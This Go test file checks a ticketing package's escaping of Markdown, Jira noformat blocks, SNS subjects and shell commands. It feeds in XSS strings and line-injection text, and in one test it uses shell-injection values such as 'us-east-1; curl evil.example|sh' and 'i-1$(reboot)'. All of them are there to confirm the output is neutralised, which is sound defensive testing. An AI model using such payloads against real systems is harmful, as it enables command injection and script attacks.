package ticket

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestSafeLine(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"a\nb\rc\r\nd", "a b c  d"},
		{"a\u2028b\u2029c\u0085d\ve\ff\tg", "a b c d e f g"},
		{"a\u00a0b\u3000c", "a b c"},
		{"a\x00b\x1b[31m\x7f\u0080", "a\ufffdb\ufffd[31m\ufffd\ufffd"},
		{"\u202eevil\u2066\u2069\u200b\u200d\ufeff\u00ad", "\ufffdevil\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd"},
		{"\xff\xfe x \xc3", "\ufffd x \ufffd"},
		{"\uffff\ufffe\ufdd0\U0001fffe", "\ufffd\ufffd\ufffd\ufffd"},
		{"日本語 é ✓", "日本語 é ✓"},
	} {
		if got := safeLine(tc.in); got != tc.want {
			t.Errorf("safeLine(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestMdText pins what the escaping does to each kind of attack, so that a change of
// rule shows here by name.
func TestMdText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain text, as it is (mostly).", "plain text, as it is (mostly)."},
		{"aws-cli/1.16.287 Python/3.6.9 Linux/4.14.138 botocore/1.13.23", "aws-cli/1.16.287 Python/3.6.9 Linux/4.14.138 botocore/1.13.23"},
		{"<img src=x onerror=alert(1)>", `\<img src\=x onerror\=alert(1)\>`},
		{"&lt;script&gt; &#60;", `\&lt;script\&gt; \&\#60;`},
		{"[x](javascript:alert(1)) ![i](y)", "\\[`x](javascript:alert(1`)) \\!\\[i\\](y)"},
		{"**b** _i_ ~~s~~ ==m== $m$ ^s^ {.c}", `\*\*b\*\* \_i\_ \~\~s\~\~ \=\=m\=\= \$m\$ \^s\^ \{.c\}`},
		{"a | b", `a \| b`},
		{"back\\slash", `back\\slash`},
		// at the start of a line only
		{"# h", `\# h`}, {"- i", `\- i`}, {"+ i", `\+ i`}, {"> q", `\> q`}, {": d", `\: d`},
		{"1. i", `1\. i`}, {"12) i", `12\) i`}, {"x - 1. y", "x - 1. y"},
		{"    indented", "indented"}, {"a   b", "a b"},
		// line breaks of every kind become spaces
		{"a\n# b", `a \# b`}, {"a\r\n- b", "a - b"}, {"a\u2028> b", `a \> b`}, {"a\u2029```", "a ```` ``` ````"},
		// autolinks: the link-like word is a code span, the punctuation around it text
		{"mail evil@example.com now", "mail `evil@example.com` now"},
		{"see www.evil.example.", "see `www.evil.example`."},
		{"WWW. www", "`WWW.` www"}, // GFM (micromark) links "WWW" here
		{"(http://evil.example/x)", "(`http://evil.example/x`)"},
		{"<https://evil.example>", "\\<`https://evil.example`\\>"},
		{"mailto:x tel:+1 javascript:x", "`mailto:x` `tel:+1` `javascript:x`"},
		{"evil.example //host", "`evil.example` `//host`"},
		{"例え.jp пример.рф", "`例え.jp` `пример.рф`"},
		{"tag eks:cluster-name", "tag `eks:cluster-name`"},
		{"06:30:00Z 10.0.0.1 e.g. 1.x", "06:30:00Z 10.0.0.1 e.g. 1.x"},
		// backticks: the word is a code span with a longer fence
		{"a`b", "``a`b``"}, {"`", "`` ` ``"}, {"x ``y", "x ``` ``y ```"},
		// neighbouring code spans are one
		{"x@y`z", "``x@y`z``"},
	} {
		if got := mdText(tc.in); got != tc.want {
			t.Errorf("mdText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestMdSpansMergeNeighbouringCode(t *testing.T) {
	for _, tc := range []struct {
		spans []Span
		want  string
	}{
		{[]Span{{"a", Code}, {"b", Code}}, "`ab`"},
		{[]Span{{"ends www.x.example", Plain}, {"code", Code}}, "ends `www.x.examplecode`"},
		{[]Span{{"a", Code}, {" ", Plain}, {"b", Code}}, "`a` `b`"},
		{[]Span{{" lead ", Strong}, {"x", Plain}}, "**lead** x"},
		{[]Span{{"a", Strong}, {"b", Strong}}, "**ab**"},
		{[]Span{{"", Code}, {"x", Plain}}, "x"},
	} {
		if got := mdSpans(tc.spans); got != tc.want {
			t.Errorf("mdSpans(%v) = %q, want %q", tc.spans, got, tc.want)
		}
	}
	if got := mdCode(""); got != "` `" {
		t.Errorf(`mdCode("") = %q: "`+"``"+`" is no code span but a fence`, got)
	}
	if got := mdCode("   "); got != "`   `" {
		t.Errorf(`mdCode("   ") = %q: spaces alone are kept whole, no padding`, got)
	}
}

// TestNoformatCannotEndEarly: the security review's finding and its relatives; each one
// removed a {noformat} with the old single pass and left one that ended the block.
func TestNoformatCannotEndEarly(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"{no{noformat}format}", "{no\uFF5Bnoformat}format}"},
		{"{{noformat}noformat}", "{\uFF5Bnoformat}noformat}"},
		{"{no{no{noformat}format}format}", "{no{no\uFF5Bnoformat}format}format}"},
		{"{NoFormat} {noformat:title=x} {noformat", "\uFF5BNoFormat} \uFF5Bnoformat:title=x} \uFF5Bnoformat"},
		{"x\n{noformat}\n[evil|http://evil.example]", "x\n\uFF5Bnoformat}\n[evil|http://evil.example]"},
		{`{"Version":"2012-10-17"} {code}`, `{"Version":"2012-10-17"} {code}`},
	} {
		got := noformat(tc.in)
		if want := noformatOpen + tc.want + noformatClose; got != want {
			t.Errorf("noformat(%q) = %q, want %q", tc.in, got, want)
		}
		checkNoformat(t, "noformat("+tc.in+")", got, "")
	}
}

func TestSNSSubject(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"IMDSv1 still used on i-1 (web) in 1/us-east-1", "IMDSv1 still used on i-1 (web) in 1/us-east-1"},
		{strings.Repeat("x", 99), strings.Repeat("x", 99)},
		{strings.Repeat("x", 100), strings.Repeat("x", 96) + "..."},
		{strings.Repeat("ab ", 40), strings.TrimSpace(strings.Repeat("ab ", 32)) + "..."},
		{"a\nb\r\nc\u2028d\te", "a b c d e"},
		{"x\x00y\x1b", "x?y?"},
		{"名前 é", "?? ?"},
		{"  $+<=>^`|~ IMDSv1", "IMDSv1"},
		{"[dry-run] x", "[dry-run] x"},
		{"", fallbackTitle},
		{"\n\t ", fallbackTitle},
		{"$$$", fallbackTitle},
	} {
		got := subject(tc.in)
		if got != tc.want {
			t.Errorf("subject(%q) = %q, want %q", tc.in, got, tc.want)
		}
		checkSNSSubject(t, "subject("+tc.in+")", got)
	}
}

func TestTitleLine(t *testing.T) {
	for _, tc := range []struct {
		in   string
		max  int
		want string
	}{
		{"IMDSv1 still used", 255, "IMDSv1 still used"},
		{"a\nb\u2028 c\x00", 255, "a b c\ufffd"},
		{strings.Repeat("é", 300), 255, strings.Repeat("é", 254) + "…"},
		{"", 1024, fallbackTitle},
		{"\n\u2029", 1024, fallbackTitle},
	} {
		got := titleLine(tc.in, tc.max)
		if got != tc.want {
			t.Errorf("titleLine(%q, %d) = %q, want %q", tc.in, tc.max, got, tc.want)
		}
		checkTitleLine(t, "titleLine", got, tc.max)
	}
}

// TestComposeCleansTheAgentVersion: an agent's version token (kubelet/<version>) reaches
// the SDK name that the advice shows; it must be cleaned like every outside value.
func TestComposeCleansTheAgentVersion(t *testing.T) {
	v := cloudTrailVerdict()
	v.Evidence.CloudTrail.UserAgents = []string{"kubelet/1.0\n===\n- injected aws-sdk-go/1.20.0"}
	c := Compose(v, ComposeOptions{})
	if got := c.Advice[0].SDK; !strings.Contains(got, "\n") {
		t.Fatalf("the fixture no longer carries a line break into the SDK name (%q)", got)
	}
	checkContentOneLine(t, "agent version", c)
	checkStructureOfModel(t, "agent version", c)
	for _, out := range []string{c.Markdown(), c.PlainText()} {
		for _, line := range strings.Split(out, "\n") {
			if line == "===" || strings.HasPrefix(line, "- injected") {
				t.Errorf("the agent's version made a line of its own: %q", line)
			}
		}
	}
}

// TestCommandsQuoteOutsideValues: the ticket's commands are meant to be pasted into a
// shell; an outside value stays one argument there.
func TestCommandsQuoteOutsideValues(t *testing.T) {
	v := theftVerdict()
	v.Region = "us-east-1; curl evil.example|sh"
	v.InstanceID = "i-1$(reboot)"
	md := Compose(v, ComposeOptions{ExemptTag: "a'b"}).Markdown()
	for _, want := range []string{
		`--region 'us-east-1; curl evil.example|sh' --lookup-attributes AttributeKey=Username,AttributeValue='i-1$(reboot)'`,
		`imdsguard plan --instance-ids 'i-1$(reboot)' --region 'us-east-1; curl evil.example|sh'`,
		`--tags 'Key=a'\''b,Value=YYYY-MM-DD'`,
	} {
		if !strings.Contains(md, want) {
			t.Errorf("the Markdown lacks the quoted command %q", want)
		}
	}
	if got := shellQuote(""); got != "''" {
		t.Errorf(`shellQuote("") = %q, want an empty argument`, got)
	}
}

// TestClosingKeepsEachFieldOnItsLine: a closing note is three lines, whatever its fields
// hold, for the SNS message, the OpsItem resolution and the Jira comment.
func TestClosingKeepsEachFieldOnItsLine(t *testing.T) {
	c := Closing{AccountID: "1\n2", Region: "r\u2028x", InstanceID: "i-1\r\n# h", Why: "fixed\n\n{noformat}\n[x|http://evil.example]",
		DecisionID: "d\x00", At: fixedNow, DryRun: true}
	text := c.Text()
	if lines := strings.Split(text, "\n"); len(lines) != 5 || lines[1] != "" || lines[3] != "" {
		t.Errorf("closing text %q is not title, reason and decision", text)
	}
	checkPlainText(t, "closing", text)
	if title := c.Title(); !strings.HasPrefix(title, "[dry-run] Resolved: ") || strings.ContainsAny(title, "\n\r\u2028") {
		t.Errorf("closing title %q", title)
	}
	dc := (&Jira{Flavour: JiraDataCenter}).resolveComment(c).(string)
	checkNoformat(t, "Data Center closing", dc, "")
	doc := (&Jira{Flavour: JiraCloud}).resolveComment(c).(map[string]any)
	checkADFDoc(t, "Cloud closing", doc)
	if n := len(doc["content"].([]any)); n != 3 {
		t.Errorf("Cloud closing has %d paragraphs, want 3", n)
	}
	if !utf8.ValidString(text) {
		t.Error("closing text is not UTF-8")
	}
}
